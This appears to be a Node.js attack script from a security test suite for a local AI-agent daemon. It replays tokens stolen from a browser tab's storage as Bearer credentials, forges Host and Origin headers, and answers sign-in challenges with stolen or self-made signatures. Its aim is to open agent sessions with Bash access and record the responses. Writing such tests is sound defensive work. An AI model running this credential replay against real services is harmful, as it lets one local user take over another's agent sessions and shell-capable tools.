// The taken-port attack's last step, as another local user (uid 65534): use everything a page on the
// tab's origin copied out of the tab (STOLEN: the squatter's report, in the environment, not argv)
// against the daemon at `port`, naming `claimed` as the Host and Origin (its own port, or the port the
// tab's sign-in was issued on). Every string it copied is tried as a Bearer on /v1; every one that could
// be the sign-in's token asks for a challenge, and each challenge is answered with every signature it has
// (made by the page's key on a made-up nonce while its page was loaded) and one of its own key.
// Node builtins only.
import { generateKeyPairSync, sign } from "node:crypto";
import { request } from "node:http";

const [port, claimed] = process.argv.slice(2).map(Number);
const origin = `http://127.0.0.1:${claimed}`;
const stolen = JSON.parse(process.env.STOLEN ?? "{}");
const forged = { host: `127.0.0.1:${claimed}`, origin, "content-type": "application/json" };

function call(method, path, headers, body) {
  return new Promise((resolve) => {
    const req = request(
      { host: "127.0.0.1", port, method, path, headers: { ...forged, ...headers } },
      (res) => {
        let text = "";
        res.on("data", (chunk) => {
          text += chunk;
        });
        res.on("end", () => resolve({ status: res.statusCode, text }));
      },
    );
    req.on("error", (error) => resolve({ status: `error: ${error.code}`, text: "" }));
    req.end(body);
  });
}

/** Every string in what was copied: stored JSON is opened up, CryptoKeys were copied as descriptions. */
function strings(value) {
  if (typeof value === "string") {
    try {
      const parsed = JSON.parse(value);
      if (parsed !== null && typeof parsed === "object") return [value, ...strings(parsed)];
    } catch {}
    return [value];
  }
  if (value !== null && typeof value === "object") return Object.values(value).flatMap(strings);
  return [];
}

const candidates = [
  ...new Set(strings({ session: stolen.session, local: stolen.local, db: stolen.indexedDB })),
];
const tokens = candidates.filter((each) => /^[A-Za-z0-9_-]{43}$/.test(each));
const own = generateKeyPairSync("ec", { namedCurve: "P-256" }).privateKey;
const ownSignature = (nonce) =>
  sign("sha256", Buffer.from(`floot-ui-access\n${origin}\n${nonce}`), {
    key: own,
    dsaEncoding: "ieee-p1363",
  }).toString("base64url");

const bearers = [];
for (const bearer of candidates) {
  const auth = { authorization: `Bearer ${bearer}` };
  bearers.push({
    overview: (await call("GET", "/v1/overview", auth)).status,
    create: (
      await call("POST", "/v1/sessions", auth, JSON.stringify({ backend: "claude", allowedTools: ["Bash"] }))
    ).status,
  });
}
const challenges = [];
const access = [];
const created = [];
for (const token of tokens) {
  const signatures = [
    ...(stolen.signed ?? []).flatMap(({ nonce, signature }) => [{ signature }, { nonce, signature }]),
    { own: true },
  ];
  for (const attempt of signatures) {
    const challenge = await call("POST", "/ui/challenge", {}, JSON.stringify({ token }));
    challenges.push(challenge.status);
    if (challenge.status !== 200) continue;
    const nonce = attempt.nonce ?? JSON.parse(challenge.text).nonce;
    const signature = attempt.own ? ownSignature(nonce) : attempt.signature;
    const granted = await call("POST", "/ui/access", {}, JSON.stringify({ token, nonce, signature }));
    access.push(granted.status);
    if (granted.status !== 201) continue;
    const auth = { authorization: `Bearer ${JSON.parse(granted.text).accessToken}` };
    created.push((await call("POST", "/v1/sessions", auth, JSON.stringify({ backend: "claude" }))).status);
  }
}
process.stdout.write(
  `${JSON.stringify({ uid: process.getuid(), tried: candidates.length, bearers, challenges, access, created })}\n`,
);
